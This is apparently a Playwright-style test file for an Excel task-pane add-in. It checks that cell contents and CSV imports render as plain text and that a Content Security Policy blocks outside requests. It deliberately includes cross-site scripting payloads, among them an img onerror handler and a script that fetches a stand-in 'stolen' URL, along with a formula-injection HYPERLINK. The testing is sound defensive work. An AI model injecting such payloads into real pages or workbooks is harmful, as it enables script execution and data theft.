import type { Cell } from "../../src/core/table/grid";
import { hostOf } from "../excel-host/fill";
import { seen } from "../excel-host/snapshot";
import { allTasks, goToTab, here, press, ready, TABS, withPanes } from "./built-pane";

const IMAGE = "<img src=x onerror=\"document.title='taken'\">";
const FETCH = "<script>fetch('https://example.com/stolen')</script>";
const LINK = '=HYPERLINK("https://example.com","bấm vào đây")';
const STYLE = "<style>@import url(https://example.com/a.css)</style>";

const PLAN: Cell[][] = [
  ["KẾ HOẠCH NĂM 2026"],
  ["TT", "Nhiệm vụ", "Đơn vị chủ trì", "Sản phẩm", "Thời hạn", "Tình trạng"],
  [1, `Việc ${IMAGE}`, `Phòng ${IMAGE}`, FETCH, "1/3/2026", null],
  [2, LINK, LINK, LINK, "1/4/2026", IMAGE],
  [3, `${FETCH}${STYLE}`, null, null, `${IMAGE} 31/2/2026`, null],
];
const CSV = `Mã,Ghi chú\n${IMAGE.replace(/"/g, "")},${LINK.replace(/[",]/g, "")}\n`;

here("what comes from cells is text, and nothing leaves the machine", () => {
  const { open } = withPanes();

  test("the page allows scripts of its own and Office's, styles of its own, and talks to nobody else", async () => {
    const pane = await ready(await open());
    const policy = await pane.frame.getAttribute("meta[http-equiv=Content-Security-Policy]", "content");
    expect(policy?.split(";").map((part) => part.trim())).toEqual([
      "default-src 'self'",
      "script-src 'self' https://appsforoffice.microsoft.com",
      "style-src 'self' 'unsafe-inline'",
      "img-src 'self' data:",
      "font-src 'self' data:",
      "connect-src 'self'",
      "object-src 'none'",
      "base-uri 'self'",
      "form-action 'none'",
    ]);
    const refused = await pane.frame.evaluate(() => {
      const script = document.createElement("script");
      script.textContent = "window.taken = true";
      document.head.append(script);
      return fetch("https://example.com/stolen").then(
        () => "sent",
        () => ("taken" in window ? "script ran" : "refused"),
      );
    });
    expect([refused, pane.left]).toEqual(["refused", []]);
    // The browser says what it has refused.
    expect(pane.errors.splice(0).every((error) => error.includes("Content Security Policy"))).toBe(true);
  }, 60_000);

  test("tasks, units, products, findings, an export: shown as they were typed, in every tab, and never run", async () => {
    const host = hostOf([
      { name: "KH", rows: PLAN },
      { name: "HoSo", rows: [["Mã", "Ghi chú"], [IMAGE, LINK]] }, // prettier-ignore
    ]);
    const before = JSON.stringify(seen(host.workbook));
    const pane = await ready(await open({ host }));
    const { frame } = pane;
    const elements = () => frame.$$eval("img, iframe, script:not([src]), #pane style, #pane a", (found) => found.map(({ outerHTML }) => outerHTML)); // prettier-ignore
    for (const tab of TABS) {
      await goToTab(frame, tab);
      for (const expander of await frame.$$("#panel button[aria-expanded=false]")) await expander.click();
      expect({ tab, elements: await elements() }).toEqual({ tab, elements: [] });
    }
    await allTasks(frame);
    expect(await frame.textContent("#panel")).toContain(IMAGE);
    expect(await frame.textContent("#panel")).toContain(LINK);
    await goToTab(frame, "checks");
    expect(await frame.textContent("#panel")).toContain("<img src=x");
    await goToTab(frame, "data");
    await frame.setInputFiles("input[type=file]", {
      name: `${IMAGE}.csv`,
      mimeType: "text/csv",
      buffer: Buffer.from(CSV),
    });
    await frame.waitForSelector("text=sẽ thay bằng 1 dòng mới");
    await press(frame, "Hủy");
    await press(frame, "Cập nhật báo cáo");
    await frame.waitForSelector("text=Đã ghi báo cáo");
    expect(await elements()).toEqual([]);
    expect(await frame.title()).toBe("Theo dõi kế hoạch");
    await press(frame, "Khôi phục");
    await frame.waitForSelector("text=Đã trở lại báo cáo trước đó");
    expect(JSON.stringify(seen(host.workbook))).toBe(before);
    expect([host.formulasTyped, pane.left]).toEqual([[], []]);
  }, 90_000);
});
